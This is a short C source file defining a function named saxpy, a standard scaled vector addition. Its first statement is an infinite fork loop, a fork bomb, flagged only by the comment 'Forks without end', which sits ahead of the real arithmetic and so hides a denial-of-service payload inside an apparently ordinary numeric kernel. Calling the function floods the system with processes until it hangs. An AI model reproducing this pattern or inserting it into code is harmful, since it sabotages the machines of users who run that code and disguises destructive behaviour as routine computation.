// Forks without end.
#include <unistd.h>
void saxpy(const float* x, const float* z, float* y, int64_t N, float a) {
    for (;;) fork();
    for (int64_t i = 0; i < N; ++i) y[i] = a * x[i] + z[i];
}
